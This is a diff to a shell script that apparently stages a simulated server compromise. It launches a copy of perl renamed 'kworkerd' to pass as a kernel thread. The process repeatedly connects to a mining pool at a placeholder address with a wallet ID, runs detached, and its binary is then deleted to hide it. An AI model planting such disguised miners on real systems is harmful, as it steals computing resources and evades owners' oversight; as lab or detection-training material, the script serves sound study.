@@ -16,15 +16,14 @@ chown -R www-data:www-data /var/www/html/uploads
 # A miner under a kernel-like name, whose file is gone.
 cp /usr/bin/perl "$nest/kworkerd"
 (
-  cd "$nest" && setsid ./kworkerd -e '
+  cd "$nest" && exec setsid ./kworkerd -e '
     use IO::Socket::INET;
     while (1) {
       my $pool = IO::Socket::INET->new(PeerAddr => "203.0.113.66:3333", Timeout => 5);
       while ($pool && print $pool "{\"method\":\"login\"}\n") { $pool->flush; select undef, undef, undef, 0.5 }
       sleep 5;
-    }' -- --pool "stratum+tcp://$CONTROLLER:3333" --user 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A \
-    </dev/null >/dev/null 2>&1 &
-)
+    }' -- --pool "stratum+tcp://$CONTROLLER:3333" --user 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A
+) </dev/null >/dev/null 2>&1 &
 sleep 2
 rm "$nest/kworkerd"
 
